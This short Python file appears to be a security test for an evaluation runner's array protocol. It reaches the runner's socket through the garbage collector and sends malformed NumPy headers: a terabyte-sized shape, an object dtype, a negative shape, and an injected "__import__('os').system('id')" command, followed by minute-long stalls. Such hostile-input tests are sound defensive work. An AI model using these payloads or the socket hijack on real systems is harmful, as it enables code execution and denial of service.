"""Send arrays whose headers declare terabytes, objects or code."""

CELLS = [
    """
import gc, json, os, struct, time
import numpy as np
runner = [o for o in gc.get_objects() if type(o).__name__ == "Runner"][0]
sock = runner.wire.sock
def frame(header, *bodies):
    header = {"re": runner.serial, "sizes": [len(b) for b in bodies], **header}
    text = json.dumps(header).encode()
    return b"EMF1" + struct.pack("<I", len(text)) + text + b"".join(bodies)
""",
    r"""
def e_step(X, thetas):
    head = "{'descr': %s, 'fortran_order': False, 'shape': (%s,), }"
    kind = kinds.pop()
    text = (head % kind).ljust(117).encode() + b"\n"
    body = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text
    sock.sendall(frame({"status": "value", "value": {"a": 0}}, body + bytes(8)))
    time.sleep(60)
kinds = [("'<f8'", 10**12), ("'|O'", 1), ("__import__('os').system('id')", 1), ("'<f8'", -1)] * 20
""",
]
